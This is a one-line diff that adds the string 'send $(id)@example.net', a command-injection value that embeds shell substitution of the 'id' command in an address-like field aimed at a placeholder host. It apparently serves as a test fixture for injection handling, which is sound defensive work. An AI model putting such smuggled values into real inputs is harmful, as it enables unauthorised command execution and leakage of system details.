@@ -1,0 +1,1 @@
+send $(id)@example.net
